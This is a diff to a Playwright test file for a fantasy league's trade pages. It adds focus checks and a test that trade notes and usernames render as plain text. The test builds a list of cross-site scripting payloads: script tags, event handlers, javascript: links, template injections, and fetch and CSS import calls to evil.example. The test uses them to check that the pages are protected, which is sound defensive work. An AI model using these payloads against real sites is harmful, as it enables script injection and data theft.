@@ -13,6 +13,23 @@ import { DESK, PHONE, windowOf, type Size } from './windows.ts';
 /** Of the Sunday of week 6 the first games are over, others are to come. */
 const MID_SEASON = '2025-10-12T18:00:00-04:00';
 const DAY_MS = 86_400_000;
+const OFFERS = '**/api/leagues/*/trades';
+
+/** What a page that took words for markup, an address or a script would run. */
+const WICKED = ['alert(1)', 'window.xss=1', 'fetch(`//evil.example`)', 'document.title=1'].flatMap((script) =>
+  ['', ' ', '\n', '"', "'"].flatMap((before) => [
+    `${before}<script>${script}</script>`,
+    `${before}<img src=x onerror="${script}">`,
+    `${before}<svg/onload=${script}>`,
+    `${before}"><iframe src="javascript:${script}"></iframe>`,
+    `${before}javascript:${script}`,
+    `${before}<a href="javascript:${script}" autofocus onfocus="${script}">me</a>`,
+    `${before}\${${script}}{{${script}}}`,
+    `${before}<style>@import "//evil.example"</style><b onmouseover=${script}>b</b>`,
+    `${before}<details open ontoggle=${script}>`,
+    `${before}</p><object data="data:text/html,<script>${script}</script>"></object>`,
+  ]),
+);
 
 let site: LocalSite;
 let crew: Player[];
@@ -146,7 +163,8 @@ test('an offer is put together by keyboard, reaches the other window, and is acc
     await expect(trade(page, 1)).toContainText('You know that you want it.');
   }
   await expect(trade(anas, 1).getByRole('button')).toHaveText(['Cancel']);
-  await expect(trade(bens, 1).getByRole('button')).toHaveText(['Accept', 'Reject', 'Counter']);
+  await expect(trade(bens, 1).getByRole('button', { name: 'Report Ana' })).toBeVisible();
+  await expect(trade(bens, 1).getByRole('button')).toHaveText(['', 'Accept', 'Reject', 'Counter']);
   await lookAtSizes(bens, 'trades');
   const cyds = await open(browser, cyd(), PHONE);
   await expect(cyds.getByText('No active trades')).toBeVisible();
@@ -160,6 +178,7 @@ test('an offer is put together by keyboard, reaches the other window, and is acc
   await lookAtSizes(bens, 'accept-trade', '[role=alertdialog]');
   await press(sure, 'Accept Trade');
   await expect(message(bens, 'Trade Updated')).toContainText('Trade accepted! Teams have been swapped.');
+  await expect(sure).toHaveCount(0);
   for (const page of [anas, bens, cyds]) await expect(page.getByText('No active trades')).toBeVisible();
   expect([await teamsOf(ana()), await teamsOf(ben())]).toEqual([
     [2, 8, 9],
@@ -193,6 +212,7 @@ test('an offer is countered, the counter rejected; another is cancelled', async 
   await expect(trade(anas, number)).toHaveCount(0);
   await press(counter, 'Reject');
   await expect(message(anas, 'Trade Updated')).toContainText('Trade rejected.');
+  await expect(anas.getByRole('main')).toBeFocused();
   await expect(trade(bens, number + 1)).toHaveCount(0);
   await bens.getByRole('tab', { name: 'Trade History' }).click();
   await expect(trade(bens, number)).toContainText(`Countered by Trade #${number + 1}`);
@@ -250,6 +270,38 @@ test('a pending trade is the next step of who received it, and a mark of the blo
   await expect(row.getByRole('img', { name: placeNameOf(2) })).toBeVisible();
   await anas.getByRole('link', { name: 'Propose Trade' }).click();
   await expect(anas).toHaveURL(`${home}/trades`);
+});
+
+test('what members write in notes and names is text, whatever it is', async ({ browser }) => {
+  await playOn();
+  const made = await offer(cyd(), seated(3), 3, 4, { note: WICKED[0] });
+  const page = await windowOf(browser, cyd(), DESK);
+  const wrong: string[] = [];
+  page.on('dialog', (opened) => {
+    wrong.push(opened.message());
+    void opened.dismiss();
+  });
+  page.on('console', (line) => line.text().includes('Content Security Policy') && wrong.push(line.text()));
+  page.on('pageerror', (error) => wrong.push(error.message));
+  const wicked = WICKED.map((note, index) => ({
+    ...made,
+    id: `${made.leagueId}-${index + 1}`,
+    leagueTradeNumber: index + 1,
+    note,
+    receiver: { ...made.receiver, username: note },
+  }));
+  await page.route(OFFERS, (route) => route.fulfill({ json: wicked }));
+  await page.goto(`/leagues/${table.league.code}/trades`);
+  await expect(page.getByRole('article')).toHaveCount(WICKED.length);
+  for (const [index, note] of WICKED.entries())
+    expect(await trade(page, index + 1).textContent()).toContain(`Note: ${note}`);
+  await expect(
+    page.getByRole('article').locator('script, iframe, object, embed, img:not([role])'),
+  ).toHaveCount(0);
+  await page.evaluate(() => 'xss' in window).then((isIn) => expect(isIn).toBe(false));
+  expect(wrong).toEqual([]);
+  const params = { tradeId: made.id };
+  await cyd().call('answerTrade', { params, body: { action: 'cancel' } });
 });
 
 test('a mark that is refused is taken back', async ({ browser }) => {
